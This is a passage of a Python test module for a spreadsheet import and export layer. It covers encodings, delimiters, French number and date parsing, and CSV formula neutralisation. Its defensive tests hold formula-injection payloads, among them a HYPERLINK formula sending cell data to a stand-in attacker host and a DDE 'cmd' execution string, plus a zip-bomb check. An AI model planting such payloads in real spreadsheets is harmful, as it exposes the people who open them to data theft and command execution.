"""The spreadsheet file layer: what staff's real files turn into, and what our exports become.

Most tests read the awkward files of ``fixtures/imports/`` (see its README); the rest build
small files in memory. No database is needed. One long module on purpose: it mirrors the file
layer's package (reading, headers, cells, writing) section by section, and shares its samples.
"""

import codecs
import datetime as dt
import io
import itertools
import pickle
import re
import sys
import unicodedata
import zipfile
from decimal import Decimal
from pathlib import Path

import pytest
import tablib
from django.utils import translation
from django.utils.functional import Promise
from openpyxl import Workbook, load_workbook

from fixtures.imports import make_samples
from spreadsheets.files import (
    CellValueError,
    SpreadsheetError,
    iter_csv,
    match_headers,
    neutralise,
    normalise_header,
    parse_bool,
    parse_date,
    parse_decimal,
    read_table,
    restore,
    write_file,
    write_table,
)
from spreadsheets.files.writing import FORMULA_SIGNS

SAMPLES = Path(make_samples.__file__).parent

PEOPLE_COLUMNS = {
    "email": ["email", "e-mail", "courriel", "adresse courriel"],
    "first_name": ["first name", "prénom"],
    "last_name": ["last name", "nom", "nom de famille"],
    "phone": ["phone", "téléphone"],
    "notes": ["notes"],
    "bio": ["bio", "biographie"],
}
CANONICAL = ["email", "first_name", "last_name", "phone", "notes", "bio"]
FRENCH = ["courriel", "prénom", "nom", "téléphone", "notes", "biographie"]


@pytest.fixture(autouse=True)
def english():
    """Messages are asserted in their English source; the site's default language is French."""
    with translation.override("en"):
        yield


def read_sample(name: str, **kwargs):
    return read_table((SAMPLES / name).read_bytes(), name, **kwargs)


def rows(table) -> list[tuple]:
    return list(table.dataset)


def restored(table) -> list[tuple]:
    """What the importer sees: our export prefix removed from every cell."""
    return [tuple(restore(value) for value in row) for row in table.dataset]


def xlsx_bytes(build) -> bytes:
    workbook = Workbook()
    build(workbook)
    output = io.BytesIO()
    workbook.save(output)
    return output.getvalue()


def error_of(data: bytes, filename: str, **kwargs) -> SpreadsheetError:
    with pytest.raises(SpreadsheetError) as caught:
        read_table(data, filename, **kwargs)
    return caught.value


# --- The awkward real files ---------------------------------------------------------------------


def test_cp1252_semicolon_csv_keeps_quebec_accents():
    table = read_sample("people_cp1252_semicolon.csv")

    assert (table.format, table.encoding, table.delimiter) == ("csv", "cp1252", ";")
    assert table.headers == FRENCH
    assert table.row_numbers == (2, 3, 4, 5)
    marie, jean_francois, amadou, luc = rows(table)
    assert marie[4] == "Rencontrée à Québec"
    # Characters that cp1252 has and latin-1 lacks: œ, ’, …
    assert jean_francois[5] == "Cœur de l’équipe à Montréal depuis 2009…"
    assert jean_francois[4] == "Bénévole; projection du 12 mai"  # a quoted ";" is not a column
    assert amadou[5] == "Distributeur « indépendant »"
    assert luc[4] == 'Surnommé "le projectionniste"'
    assert luc[3] == luc[5] == ""


def test_utf8_bom_csv_strips_bom_and_spaces_and_keeps_line_breaks():
    table = read_sample("people_utf8_bom.csv")

    assert (table.encoding, table.delimiter) == ("utf-8-sig", ",")
    assert table.headers == CANONICAL  # no "\ufeffemail"
    assert table.row_numbers == (2, 3, 4)
    assert rows(table)[1] == (
        "zoe.lavoie@example.org",
        "Zoé",
        "Lavoie",
        "",
        "",
        "Première ligne\nSeconde",
    )
    assert rows(table)[2][3] == "+1 514 555 0100"


def test_xlsx_dates_stored_as_numbers_become_dates_and_formula_gives_its_cached_value():
    table = read_sample("people.xlsx")

    assert (table.format, table.encoding, table.delimiter) == ("xlsx", None, None)
    assert table.headers == [*CANONICAL, "member_since"]  # "bio " stripped
    assert table.row_numbers == (2, 3, 5)  # row 4 is empty, and the numbering says so
    marie, jean_francois, amadou = rows(table)
    assert marie[6] == dt.date(2024, 3, 15)
    assert type(marie[6]) is dt.date  # not a datetime at midnight
    assert jean_francois[6] == dt.date(2009, 2, 1)
    assert jean_francois[4] == "Renouvellement 2010"  # the value LibreOffice computed
    assert amadou[3] == 5145550199  # a phone typed as a number stays a whole number
    assert amadou[6] == dt.date(2025, 1, 1)


def test_ods_saved_by_libreoffice_keeps_repeated_and_empty_cells_in_their_columns():
    table = read_sample("people.ods")

    assert table.format == "ods"
    assert table.headers == FRENCH
    assert table.row_numbers == (2, 3, 5, 6)
    marie, zoe, jean_francois, amadou = rows(table)
    assert marie[4:] == ("À confirmer", "À confirmer")  # one cell repeated twice in the file
    assert zoe == (
        "zoe.lavoie@example.org",
        "Zoé",
        "Lavoie",
        "",
        "",
        "Née à Trois-Rivières.\nVit à Montréal.",
    )
    assert jean_francois[3] == "+1 514 555 0100"
    assert amadou[3] == 5145550199


def test_file_with_a_bad_row_is_read_whole_and_names_its_row():
    """Validation is the next step's job; the reader must keep the row and its real number."""
    table = read_sample("people_bad_row.csv")

    assert (table.encoding, table.delimiter) == ("utf-8", ",")
    assert len(table.dataset) == 5
    bad = [i for i, row in enumerate(table.dataset) if "@" not in row[0]]
    assert bad == [2]
    assert table.row_numbers[2] == 4
    assert table.dataset[2][0] == "paul.gagnon(at)example.org"


def test_unknown_columns_are_listed_not_refused():
    table = read_sample("people_unknown_columns.txt")

    assert (table.encoding, table.delimiter) == ("utf-8", "\t")
    mapping, unknown = match_headers(table.headers, PEOPLE_COLUMNS)
    assert mapping == {
        "Courriel": "email",
        "Prénom": "first_name",
        "NOM": "last_name",
        "Téléphone": "phone",
    }
    assert unknown == ["Adresse postale", "Taille de t-shirt"]


def test_excel_unicode_text_is_utf16_with_tabs():
    table = read_sample("people_excel_unicode.txt")

    assert (table.encoding, table.delimiter) == ("utf-16", "\t")
    assert table.headers == CANONICAL
    assert rows(table)[1][5] == "Cœur de l’équipe à Montréal depuis 2009…"


@pytest.mark.parametrize(
    ("name", "code", "message"),
    [
        ("empty.csv", "empty", "The file is empty."),
        ("header_only.csv", "no_rows", "The file has column headings but no rows to import."),
        (
            "corrupt.xlsx",
            "corrupt",
            "This XLSX file could not be opened; it may be damaged. Open it in your spreadsheet "
            "software, save it again and retry.",
        ),
    ],
)
def test_unusable_sample_files_say_why(name, code, message):
    error = error_of((SAMPLES / name).read_bytes(), name)

    assert error.code == code
    assert str(error) == message


def test_committed_text_samples_are_what_the_script_makes():
    for name, content in make_samples.text_samples().items():
        assert (SAMPLES / name).read_bytes() == content, name


def test_large_generated_file_reads_every_row(tmp_path):
    path = make_samples.write_large_csv(tmp_path / "people.csv", rows=10_000)

    table = read_table(path.read_bytes(), path.name)

    assert len(table.dataset) == 10_000
    assert table.row_numbers[-1] == 10_001
    assert table.dataset[-1][0] == "personne010000@example.org"


# --- Reading: detection and refusals ------------------------------------------------------------


def test_file_larger_than_the_limit_is_refused_before_reading():
    error = error_of(b"email\n" + b"a@example.org\n" * 100, "people.csv", max_bytes=1000)

    assert error.code == "too_large"
    assert str(error).startswith("The file is too large (")
    assert "The limit is 1000" in str(error)


def test_too_many_rows_is_refused():
    error = error_of(b"email\na@x.org\nb@x.org\nc@x.org\n", "people.csv", max_rows=2)

    assert error.code == "too_many_rows"
    assert str(error) == "The file has more than 2 rows. Split it into smaller files."


def test_zip_that_unpacks_to_far_more_than_the_limit_is_refused():
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("xl/workbook.xml", b"\0" * 3_000_000)
    data = archive.getvalue()

    error = error_of(data, "bomb.xlsx", max_bytes=len(data) * 2)

    assert error.code == "too_large"


@pytest.mark.parametrize(
    ("data", "filename", "code"),
    [
        (b"%PDF-1.7 ...", "people.pdf", "unknown_format"),
        (b"email\na@x.org\n", "people", "unknown_format"),
        (b"email\x00\x00a@x.org", "people.csv", "unknown_format"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 100, "people.xls", "unsupported_format"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 100, "people.xlsx", "encrypted"),
        (b"<html><table></table></html>", "export.xls", "unsupported_format"),
        (b"email,first_name\n", "people.ods", "corrupt"),
        (b"   \r\n \n", "people.csv", "empty"),
        (codecs.BOM_UTF8, "people.csv", "empty"),
    ],
)
def test_files_we_cannot_read_are_refused_with_a_code(data, filename, code):
    assert error_of(data, filename).code == code


def test_unknown_format_message_names_the_formats_we_read():
    error = error_of(b"%PDF-1.7", "people.pdf")

    assert str(error) == "This file is not a spreadsheet we can read: use CSV, XLSX or ODS."


def test_a_word_document_is_not_a_spreadsheet():
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as zf:
        zf.writestr("[Content_Types].xml", "<Types/>")
        zf.writestr("word/document.xml", "<document/>")

    assert error_of(archive.getvalue(), "people.xlsx").code == "unknown_format"


def test_bytes_that_are_neither_utf8_nor_cp1252_name_their_line():
    data = "email;ville\na@example.org;Québec\n".encode("cp1252") + b"b@example.org;\x81\n"

    error = error_of(data, "people.csv")

    assert error.code == "encoding"
    assert "(line 3)" in str(error)
    assert "CSV UTF-8" in str(error)


def test_a_file_mixing_utf8_and_cp1252_is_refused_rather_than_garbled():
    data = "email;ville\na@x.org;Québec\n".encode() + "b@x.org;Montréal\n".encode("cp1252")

    error = error_of(data, "people.csv")

    assert error.code == "encoding"
    assert "(line 2)" in str(error)


def test_an_unclosed_quote_names_its_row_instead_of_swallowing_the_file():
    data = b'email,notes\na@x.org,"ok"\nb@x.org,"never closed\nc@x.org,fine\n'

    error = error_of(data, "people.csv")

    assert error.code == "csv_syntax"
    assert str(error).startswith("Row 3 of the file could not be read")


def test_messages_are_translated_when_shown_not_when_raised():
    error = error_of(b"", "people.csv")

    assert isinstance(error.message, Promise)


def test_content_wins_over_a_wrong_extension():
    data = write_table(tablib.Dataset(["a@x.org"], headers=["email"]), "xlsx")

    table = read_table(data, "people.csv")

    assert table.format == "xlsx"
    assert rows(table) == [("a@x.org",)]


@pytest.mark.parametrize(
    ("text", "delimiter"),
    [
        ("email,nom\na@x.org,Roy\n", ","),
        ("email;nom\na@x.org;Roy\n", ";"),
        ("email\tnom\na@x.org\tRoy\n", "\t"),
        # Decimal commas in the data do not fool the detection.
        ("nom;montant\nRoy;12,5\nCôté;3,25\n", ";"),
        # Both in the header: the one that makes every row as wide as the header, then ";".
        ("Nom, prénom;Courriel\nDupont, Jean;j@x.org\nRoy, Ann;a@x.org\n", ";"),
        ("a,b;c\n1,2;3\n4,5,6;7\n", ";"),
        ("Remarque; divers,email\nx,a@x.org\ny,b@x.org\n", ","),
        # Both fit every row: ";" wins, since French cells are full of commas.
        ("Nom;Adresse, ville\nRoy;1 rue X, Québec\n", ";"),
        # A single column: nothing to split.
        ("email\na@x.org\n", ","),
    ],
)
def test_delimiter_detection(text, delimiter):
    table = read_table(text.encode(), "people.csv")

    assert table.delimiter == delimiter


def test_excel_sep_hint_line_states_the_delimiter_and_is_not_a_row():
    table = read_table(b"sep=;\r\nemail;notes\r\na@x.org;Un, deux\r\n", "people.csv")

    assert table.delimiter == ";"
    assert table.headers == ["email", "notes"]
    assert rows(table) == [("a@x.org", "Un, deux")]


def test_ragged_rows_are_padded_and_headerless_values_kept_under_a_column_name():
    data = b"email,,notes,\na@x.org,,x\nb@x.org,lost?,y,\n\n,,,\nc@x.org\n"

    table = read_table(data, "people.csv")

    # Column B has a value and no header: kept as "Column B". Column D is wholly empty: dropped.
    assert table.headers == ["email", "Column B", "notes"]
    assert rows(table) == [("a@x.org", "", "x"), ("b@x.org", "lost?", "y"), ("c@x.org", "", "")]
    assert table.row_numbers == (2, 3, 6)


def test_text_is_put_in_composed_unicode_form():
    decomposed = "Que\u0301bec"  # "é" as "e" + combining accent, as some Mac programs write it

    table = read_table(f"ville\n{decomposed}\n".encode(), "people.csv")

    assert rows(table) == [("Québec",)]


def test_xlsx_formula_without_cached_value_is_kept_as_text_never_evaluated():
    def build(workbook):
        sheet = workbook.active
        sheet.append(["email", "notes"])
        sheet.append(["a@x.org", '=HYPERLINK("http://evil.example","clic")'])
        sheet.append(["b@x.org", "=1+1"])

    table = read_table(xlsx_bytes(build), "people.xlsx")

    assert rows(table) == [
        ("a@x.org", '=HYPERLINK("http://evil.example","clic")'),
        ("b@x.org", "=1+1"),
    ]


def test_xlsx_datetimes_with_a_time_format_stay_datetimes_and_numbers_stay_exact():
    def build(workbook):
        sheet = workbook.active
        sheet.append(["when", "amount", "ok"])
        sheet.append([dt.datetime(2024, 5, 1, 19, 30), 0.1, True])
        sheet["A2"].number_format = "DD/MM/YYYY HH:MM"

    table = read_table(xlsx_bytes(build), "people.xlsx")

    assert rows(table) == [(dt.datetime(2024, 5, 1, 19, 30), Decimal("0.1"), True)]


def test_xlsx_reads_the_first_visible_sheet():
    def build(workbook):
        hidden = workbook.active
        hidden.append(["secret"])
        hidden.append(["x"])
        hidden.sheet_state = "hidden"
        visible = workbook.create_sheet("Membres")
        visible.append(["email"])
        visible.append(["a@x.org"])

    assert rows(read_table(xlsx_bytes(build), "people.xlsx")) == [("a@x.org",)]


# --- Header matching ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    "headers",
    [
        CANONICAL,
        FRENCH,
        ["Courriel", "PRÉNOM", "Nom", "TÉLÉPHONE", "Notes", "Biographie"],
        ["E-mail", "First Name", "last-name", "Phone ", "NOTES", "Bio"],
        ["e_mail", "prenom", "Nom de famille", "telephone", "notes", "bio"],
        ["Adresse courriel *", "Prénom.", "nom", "Téléphone", "notes", "bio"],
    ],
)
def test_headers_match_in_french_or_english_ignoring_case_accents_and_punctuation(headers):
    mapping, unknown = match_headers(headers, PEOPLE_COLUMNS)

    assert unknown == []
    assert list(mapping.values()) == CANONICAL
    assert list(mapping) == [h.strip() for h in headers]


def test_normalised_header_key():
    assert normalise_header(" Pré-Nom_ ") == normalise_header("prenom") == "prenom"
    assert normalise_header("E-MAIL") == "email"


def test_two_columns_for_the_same_field_are_refused_naming_both():
    with pytest.raises(SpreadsheetError) as caught:
        match_headers(["email", "Nom", "Courriel", "prénom"], PEOPLE_COLUMNS)

    assert caught.value.code == "duplicate_columns"
    assert str(caught.value) == (
        "Several columns hold the same information: “email”, “Courriel”. "
        "Keep only one of each, then try again."
    )


def test_a_spelling_given_to_two_fields_is_a_programming_error():
    with pytest.raises(ValueError, match="both"):
        match_headers(["nom"], {"last_name": ["nom"], "name": ["Nom"]})


# --- French habits ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("1 234,50", Decimal("1234.50")),
        ("1\u00a0234,50", Decimal("1234.50")),  # non-breaking space
        ("1\u202f234,50", Decimal("1234.50")),  # narrow non-breaking space (French typography)
        ("1234.50", Decimal("1234.50")),
        ("1234,5", Decimal("1234.5")),
        ("12,5 $", Decimal("12.5")),
        ("€ 12", Decimal("12")),
        ("-12,5", Decimal("-12.5")),
        ("\u221212,5", Decimal("-12.5")),  # the typographic minus
        ("1.234,50", Decimal("1234.50")),
        ("1,234.50", Decimal("1234.50")),
        ("1,234", Decimal("1.234")),  # one comma: a decimal comma, as in French
        ("1.234.567", Decimal("1234567")),
        (",5", Decimal("0.5")),
        ("0", Decimal("0")),
        (12, Decimal("12")),
        (0.1, Decimal("0.1")),
        (Decimal("2.50"), Decimal("2.50")),
        ("", None),
        ("  ", None),
        (None, None),
    ],
)
def test_parse_decimal_accepts(value, expected):
    result = parse_decimal(value)

    assert result == expected
    if expected is not None:
        assert str(result) == str(expected)


@pytest.mark.parametrize(
    "value",
    ["1,234.5,6", "1,2,3.4", "12 34", "1.234.56", "12,", "abc", "12a", "1e5", "--1", "$", True],
)
def test_parse_decimal_refuses_what_it_would_have_to_guess(value):
    with pytest.raises(ValueError) as caught:
        parse_decimal(value)

    assert caught.value.code == "invalid_decimal"
    assert str(caught.value) == f"“{value}” is not a number. Write it like 1234,50 or 1 234,50."


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("31/12/2024", dt.date(2024, 12, 31)),
        ("1/2/2024", dt.date(2024, 2, 1)),  # day first: 1 February
        ("03/04/2024", dt.date(2024, 4, 3)),  # ambiguous for an American: still day first
        ("31.12.2024", dt.date(2024, 12, 31)),
        ("31-12-2024", dt.date(2024, 12, 31)),
        ("2024-12-31", dt.date(2024, 12, 31)),
        ("2024-2-1", dt.date(2024, 2, 1)),
        ("2024-12-31 00:00:00", dt.date(2024, 12, 31)),
        ("29/02/2024", dt.date(2024, 2, 29)),
        (dt.date(2024, 12, 31), dt.date(2024, 12, 31)),
        (dt.datetime(2024, 12, 31, 0, 0), dt.date(2024, 12, 31)),
        ("", None),
        (None, None),
    ],
)
def test_parse_date_accepts(value, expected):
    result = parse_date(value)

    assert result == expected
    assert result is None or type(result) is dt.date


@pytest.mark.parametrize(
    ("value", "code"),
    [
        ("12/31/2024", "month_first_date"),
        ("2/13/2024", "month_first_date"),
        ("31/02/2024", "nonexistent_date"),
        ("29/02/2023", "nonexistent_date"),
        ("31/12/24", "short_year"),
        ("32/13/2024", "invalid_date"),
        ("2024-13-01", "invalid_date"),
        ("2024-12-31 10:30", "invalid_date"),
        ("hier", "invalid_date"),
        ("31 décembre 2024", "invalid_date"),
        (45366, "invalid_date"),
    ],
)
def test_parse_date_refuses(value, code):
    with pytest.raises(ValueError) as caught:
        parse_date(value)

    assert isinstance(caught.value, CellValueError)
    assert caught.value.code == code


def test_month_first_date_message_tells_to_check_the_column():
    with pytest.raises(CellValueError) as caught:
        parse_date("12/31/2024")

    assert str(caught.value) == (
        "“12/31/2024” seems to give the month before the day. Write the day first, like "
        "31/12/2024, and check the other dates of this column."
    )


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        *[(v, True) for v in ["oui", "OUI", "Oui", "yes", "Vrai", "true", "TRUE", "1", "x", "X"]],
        *[(v, False) for v in ["non", "Non", "no", "faux", "FALSE", "0"]],
        (" oui ", True),
        ("", None),
        (" ", None),
        (None, None),
        (True, True),
        (False, False),
        (1, True),
        (0, False),
    ],
)
def test_parse_bool(value, expected):
    assert parse_bool(value) is expected


@pytest.mark.parametrize("value", ["peut-être", "2", "o", "vrai!", 2])
def test_parse_bool_refuses(value):
    with pytest.raises(ValueError, match="is not a yes/no answer"):
        parse_bool(value)


# --- Neutralising formulas ----------------------------------------------------------------------


@pytest.mark.parametrize(
    "value",
    [
        "=1+2",
        '=HYPERLINK("http://evil.example?d="&A1,"clic")',
        "+A1",
        "-2+3",
        "@SUM(A1:A2)",
        "-cmd|' /C calc'!A0",
        "\t=1+2",
        "\r=1+2",
        "+1 514 555 0100 poste 12",  # letters after the sign: not a plain number any more
        "- appelée le 3 mars",
        "@liensmutuels",
    ],
)
def test_formula_like_text_is_prefixed(value):
    assert neutralise(value) == "'" + value


@pytest.mark.parametrize(
    "value",
    [
        "+1 514 555 0100",
        "+1 (514) 555-0100",
        "+33 1 23 45 67 89",
        "+1.514.555.0100",
        "-12.5",
        "-1 234,50",
        "+5",
        "514-555-0100",
        "Bonjour",
        "",
        "'tis",
        "a=b",
        42,
        Decimal("-3.5"),
        None,
        dt.date(2024, 1, 1),
    ],
)
def test_phone_numbers_plain_numbers_and_ordinary_text_are_left_alone(value):
    assert neutralise(value) == value


TRICKY = [
    "=1+2",
    "'=1+2",
    "''=1+2",
    "'",
    "''",
    "'tis",
    "'Bonjour'",
    "+1 514 555 0100",
    "'+1 514 555 0100",
    "-12.5",
    "@x",
    "'@x",
    "",
    "plain",
    42,
    None,
]


@pytest.mark.parametrize("value", TRICKY)
def test_restore_undoes_neutralise_exactly(value):
    assert restore(neutralise(value)) == value


@pytest.mark.parametrize("value", TRICKY)
def test_neutralise_then_restore_is_stable_on_exported_text(value):
    exported = neutralise(value)

    assert neutralise(restore(exported)) == exported


@pytest.mark.parametrize("value", ["'tis", "'Bonjour'", "'", "'+1 514 555 0100", "'-12.5"])
def test_restore_only_removes_our_prefix(value):
    assert restore(value) == value


@pytest.mark.parametrize(
    ("value", "exported"),
    [
        # A piece that another separator, or a line break, would make a cell of.
        (
            'Bénévole;=HYPERLINK("http://evil.example")',
            'Bénévole;\'=HYPERLINK("http://evil.example")',
        ),
        ("a,=1+2", "a,'=1+2"),
        ("a\t@SUM(A1)", "a\t'@SUM(A1)"),
        ("Appelée.\n-2+3", "Appelée.\n'-2+3"),
        ("a;  =1+2", "a;'  =1+2"),  # spaces that software may trim
        ("\t=1+2", "\t'=1+2"),
        # Look-alike signs: fullwidth, small, minus sign.
        ("\uff1d1+2", "'\uff1d1+2"),
        ("x;\uff0bA1", "x;'\uff0bA1"),
        ("\uff20SUM(A1)", "'\uff20SUM(A1)"),
        ("\u22122+3", "'\u22122+3"),
        ("\ufe66A1", "'\ufe66A1"),
        ("  =1+2", "'  =1+2"),
        # Already an apostrophe: one more, so that the import gives the text back exactly.
        ("a;'=1", "a;''=1"),
        # Plain numbers and phone numbers stay as they are, whole.
        ("-1 234,50", "-1 234,50"),
        ("+1 514 555 0100", "+1 514 555 0100"),
        ("-12; -13", "'-12;' -13"),  # not a plain number as a whole: ";" is no digit
        ("Bénévole; projection du 12 mai", "Bénévole; projection du 12 mai"),
        ("a-b, c=d", "a-b, c=d"),
    ],
)
def test_neutralise_for_csv_treats_every_piece_a_separator_could_split_off(value, exported):
    assert neutralise(value, for_csv=True) == exported
    assert restore(exported, for_csv=True) == value


def every_short_text():
    """Every text of up to four characters drawn from the ones that matter."""
    alphabet = ["'", "=", "-", "\uff1d", "1", " ", ";", ",", "\t", "\n", "a"]
    texts = [""]
    for length in range(1, 5):
        texts.extend("".join(chars) for chars in itertools.product(alphabet, repeat=length))
    return texts


@pytest.mark.parametrize("for_csv", [False, True])
def test_restore_undoes_neutralise_exactly_for_every_short_text(for_csv):
    """Whatever staff typed comes back from an export unchanged (16,105 texts, both ways)."""
    wrong = [
        text
        for text in every_short_text()
        if restore(neutralise(text, for_csv=for_csv), for_csv=for_csv) != text
    ]

    assert wrong == []


def test_no_neutralised_csv_piece_starts_like_a_formula():
    """After ``neutralise(for_csv=True)``, no piece a separator could split off starts with a
    sign, whitespace or not, unless the whole text is a plain number."""
    pieces = re.compile(r"[,;\t\r\n]")
    for text in every_short_text():
        exported = neutralise(text, for_csv=True)
        if re.fullmatch(r"[\d ,\-]*\d[\d ,\-]*", text.lstrip("'")):
            continue  # a plain number (or phone number): arithmetic at worst
        for piece in pieces.split(exported):
            assert piece.lstrip()[:1] not in FORMULA_SIGNS, (text, exported)


def test_formula_signs_hold_every_character_unicode_folds_into_one():
    folded = {
        chr(code)
        for code in range(sys.maxunicode + 1)
        if unicodedata.normalize("NFKC", chr(code)) in {"=", "+", "-", "@", "\u2212"}
    }

    assert folded | {"\u2212"} <= FORMULA_SIGNS


# --- Export -------------------------------------------------------------------------------------


def people_dataset() -> tablib.Dataset:
    dataset = tablib.Dataset(headers=[*CANONICAL, "member_since", "paid", "volunteer"])
    dataset.title = "Membres: 2024/25"
    dataset.append(
        [
            "marie.tremblay@example.org",
            "Marie",
            "Tremblay",
            "+1 514 555 0100",
            '=HYPERLINK("http://evil.example")\nsecond line',
            "Cinéaste à Québec; « programmatrice »",
            dt.date(2024, 3, 15),
            Decimal("25.50"),
            True,
        ]
    )
    dataset.append(
        [
            "jean-francois.cote@example.org",
            "Jean-François",
            "Côté",
            "-12.5",
            "- appelé le 3 mars",
            "'=déjà protégé",
            None,
            3,
            False,
        ]
    )
    dataset.append(
        ["zoe@example.org", "Zoé", "", "", "@zoe", "Deux  espaces\tet une tab", None, None, None]
    )
    return dataset


def test_csv_export_has_a_bom_crlf_and_every_cell_quoted_and_neutralised():
    """Quoted cells stay whole whichever separator the spreadsheet assumes; numbers stay
    numbers."""
    data = write_table(people_dataset(), "csv")

    assert data.startswith(codecs.BOM_UTF8)
    text = data.decode("utf-8-sig")
    assert text.startswith('"email","first_name","last_name","phone","notes","bio","member_since"')
    assert text.count("\r\n") == 4  # header + 3 rows; the line break inside a cell stays "\n"
    assert '"+1 514 555 0100",' in text
    assert '"\'=HYPERLINK(""http://evil.example"")\nsecond line"' in text
    assert ',"\'- appelé le 3 mars",' in text
    assert ',"2024-03-15","25.50","yes"\r\n' in text


def test_csv_export_import_export_is_identical():
    first = write_table(people_dataset(), "csv")

    table = read_table(first, "export.csv")
    again = tablib.Dataset(*restored(table), headers=table.headers)
    second = write_table(again, "csv")

    assert (table.encoding, table.delimiter) == ("utf-8-sig", ",")
    assert second == first
    assert restored(table)[0][3] == "+1 514 555 0100"
    assert restored(table)[1][5] == "'=déjà protégé"
    assert restored(table)[0][4].startswith("=HYPERLINK(")


def test_streamed_csv_is_the_same_file_in_chunks():
    dataset = people_dataset()

    chunks = list(iter_csv(dataset, headers=dataset.headers, batch=1))

    assert len(chunks) == 1 + 3  # the BOM, then a chunk per row (the header with the first)
    assert b"".join(chunks) == write_table(dataset, "csv")


@pytest.mark.parametrize("fmt", ["xlsx", "ods"])
def test_xlsx_and_ods_round_trip_keeps_values_and_types(fmt):
    data = write_table(people_dataset(), fmt)

    table = read_table(data, f"export.{fmt}")

    assert table.format == fmt
    assert table.headers == [*CANONICAL, "member_since", "paid", "volunteer"]
    marie, jean_francois, zoe = restored(table)
    assert marie == (
        "marie.tremblay@example.org",
        "Marie",
        "Tremblay",
        "+1 514 555 0100",
        '=HYPERLINK("http://evil.example")\nsecond line',
        "Cinéaste à Québec; « programmatrice »",
        dt.date(2024, 3, 15),
        Decimal("25.50"),
        True,
    )
    assert jean_francois == (
        "jean-francois.cote@example.org",
        "Jean-François",
        "Côté",
        "-12.5",
        "- appelé le 3 mars",
        "'=déjà protégé",
        "",
        3,
        False,
    )
    assert zoe[4:6] == ("@zoe", "Deux  espaces\tet une tab")


@pytest.mark.parametrize("fmt", ["xlsx", "ods"])
def test_xlsx_and_ods_export_import_export_gives_the_same_cells(fmt):
    first = read_table(write_table(people_dataset(), fmt), f"a.{fmt}")
    again = tablib.Dataset(*restored(first), headers=first.headers)

    second = read_table(write_table(again, fmt), f"b.{fmt}")

    assert rows(second) == rows(first)


def test_xlsx_export_never_writes_a_formula():
    data = write_table(people_dataset(), "xlsx")

    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet_xml and b"<f " not in sheet_xml
    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet["E2"].data_type == "s"
    assert sheet["E2"].value.startswith("'=HYPERLINK(")
    assert sheet["D2"].value == "+1 514 555 0100"
    assert sheet.title == "Membres- 2024-25"


def test_export_drops_characters_xml_cannot_hold():
    dataset = tablib.Dataset(["bell\x07 and tab\t"], headers=["notes"])

    for fmt in ("xlsx", "ods"):
        assert rows(read_table(write_table(dataset, fmt), f"x.{fmt}")) == [("bell and tab",)]


def test_unknown_export_format_is_a_programming_error():
    with pytest.raises(ValueError, match="Unknown spreadsheet format"):
        write_table(people_dataset(), "pdf")


def test_errors_survive_pickling_for_background_jobs():
    file_error = error_of(b"", "people.csv")
    with pytest.raises(CellValueError) as caught:
        parse_date("12/31/2024")

    for error in (file_error, caught.value):
        copy = pickle.loads(pickle.dumps(error))  # noqa: S301 - our own bytes
        assert (type(copy), copy.code, str(copy)) == (type(error), error.code, str(error))


def test_a_workbook_without_any_value_is_empty():
    error = error_of(xlsx_bytes(lambda workbook: None), "people.xlsx")

    assert error.code == "empty"


# --- Streaming writers --------------------------------------------------------------------------


def generated_rows(count: int):
    """Rows made one at a time, as a queryset iterator gives them: never a list."""
    for n in range(count):
        yield [f"p{n}@example.org", f"Élise {n}", dt.date(2024, 1, 1 + n % 28), Decimal(n) / 4]


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "ods"])
def test_write_file_streams_rows_into_a_file_and_counts_them(fmt, tmp_path):
    path = tmp_path / f"export.{fmt}"

    with path.open("wb") as output:
        count = write_file(
            output, generated_rows(1200), fmt=fmt, headers=["email", "nom", "date", "montant"]
        )

    table = read_table(path.read_bytes(), path.name)
    assert count == len(table.dataset) == 1200
    assert table.headers == ["email", "nom", "date", "montant"]
    last = table.dataset[-1]
    assert last[0] == "p1199@example.org" and last[1] == "Élise 1199"
    if fmt != "csv":  # typed cells; CSV cells stay text until the importer parses them
        assert last[2:] == (dt.date(2024, 1, 24), Decimal("299.75"))


def test_ods_is_an_opendocument_package_that_odfpy_opens():
    from odf import opendocument, table

    data = write_table(people_dataset(), "ods")

    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        first = archive.infolist()[0]
        names = archive.namelist()
        manifest = archive.read("META-INF/manifest.xml").decode()
        content = archive.read("content.xml").decode()
    assert (first.filename, first.compress_type, first.extra) == ("mimetype", 0, b"")
    assert data[30:38] == b"mimetype"  # right after the first local header, as ODF requires
    assert {"META-INF/manifest.xml", "styles.xml", "content.xml"} <= set(names)
    assert 'manifest:full-path="content.xml"' in manifest
    assert '<table:table table:name="Membres- 2024-25">' in content
    assert 'office:value="25.50" table:style-name="lm-amount-cell"' in content
    assert 'office:date-value="2024-03-15" table:style-name="lm-date-cell"' in content
    assert 'office:boolean-value="true"' in content
    sheets = opendocument.load(io.BytesIO(data)).spreadsheet.getElementsByType(table.Table)
    assert len(sheets) == 1 and len(sheets[0].getElementsByType(table.TableRow)) == 4


def test_ods_keeps_spaces_line_breaks_and_carriage_returns_that_xml_would_lose():
    dataset = tablib.Dataset(
        ["Deux  espaces,   trois", "ligne 1\r\nligne 2", "a\n\nb", "x < y & z"],
        headers=["a", "b", "c", "d"],
    )

    data = write_table(dataset, "ods")

    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        content = archive.read("content.xml").decode()
    assert 'Deux <text:s/>espaces, <text:s text:c="2"/>trois' in content
    assert "<text:p>ligne 1&#13;</text:p><text:p>ligne 2</text:p>" in content
    assert "<text:p>a</text:p><text:p/><text:p>b</text:p>" in content
    assert "x &lt; y &amp; z" in content
    assert rows(read_table(data, "x.ods")) == [
        ("Deux  espaces,   trois", "ligne 1\r\nligne 2", "a\n\nb", "x < y & z")
    ]


@pytest.mark.parametrize("fmt", ["xlsx", "ods"])
